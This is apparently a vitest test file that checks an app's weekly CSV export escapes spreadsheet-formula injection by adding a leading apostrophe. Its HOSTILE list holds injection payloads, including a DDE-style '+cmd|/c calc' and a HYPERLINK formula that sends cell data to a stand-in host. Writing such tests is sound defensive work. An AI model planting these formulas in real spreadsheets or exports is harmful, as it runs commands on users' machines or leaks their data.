// The weekly review's CSV opens in a spreadsheet: text from the data that starts like a formula
// (=, +, -, @) must arrive as text, not be evaluated. Quoting alone does not do it (spreadsheets
// drop the quotes first), so such a cell starts with an apostrophe; the app's numbers stay numbers.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../helpers/app';
import { csv, ingestCsv } from '../helpers/ingest';

let t: TestApp;

const HOSTILE = ['=1+1', '@SUM(1+1)', '+cmd|/c calc', '-2+3', '=HYPERLINK("http://x.example/?"&A1,"Click")'];

beforeAll(async () => {
  t = await createTestApp();
  const rows: string[] = [];
  // Week 2024-W07 (12–18 February): each hostile value as a journey stage and a contact reason;
  // W06 has fewer contacts, so each reason rose (negative changes appear too, as numbers).
  HOSTILE.forEach((v, k) => {
    const quoted = `"${v.replaceAll('"', '""')}"`;
    for (let n = 0; n < 3; n++)
      rows.push(
        `w7-${k}-${n},2024-02-1${3 + n}T09:00:00Z,t1,phone,${quoted},${quoted},true,${30 + n * 200},${100 + k},${n % 2 === 0}`,
      );
    rows.push(`w6-${k},2024-02-06T09:00:00Z,t1,phone,${quoted},${quoted},true,20,400,true`);
  });
  await ingestCsv(
    t.database,
    'interactions',
    csv(
      'external_id,occurred_at,team,channel,journey_stage,contact_reason,answered,wait_seconds,handle_seconds,resolved',
      ...rows,
    ),
  );
});
afterAll(() => t.close());

/** RFC 4180 cells of a CSV text, row by row. */
function parseCsv(text: string): string[][] {
  const out: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      out.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) {
    row.push(cell);
    out.push(row);
  }
  return out;
}

describe('GET /views/weekly?format=csv', () => {
  it('starts no cell with a formula character, except numbers the app worked out', async () => {
    const res = await t.request('/api/v1/views/weekly?week=2024-W07&format=csv', { token: t.tokens.leader });
    expect(res.status).toBe(200);
    const rows = parseCsv(await res.text());
    const header = rows[0]!;
    const cells = rows.slice(1).flatMap((r) => r.map((value, i) => ({ column: header[i]!, value })));
    const risky = cells.filter((c) => /^[=+\-@\t\r]/.test(c.value));
    // Only numbers (a negative change) may start with "-".
    for (const c of risky)
      expect(c, `${c.column}: ${c.value}`).toMatchObject({ value: expect.stringMatching(/^-\d+(\.\d+)?(e-?\d+)?$/) });
    expect(risky.some((c) => c.column === 'change')).toBe(true);

    // Every hostile value is there, as text: a leading apostrophe, the rest unchanged.
    const items = new Set(rows.slice(1).map((r) => r[header.indexOf('item')]!));
    for (const v of HOSTILE) expect(items, v).toContain(`'${v}`);
    const sections = new Set(
      rows
        .slice(1)
        .filter((r) => r[header.indexOf('item')] === `'=1+1`)
        .map((r) => r[0]),
    );
    expect([...sections].sort()).toEqual(['contact_reason', 'journey_stage']);
  });
});
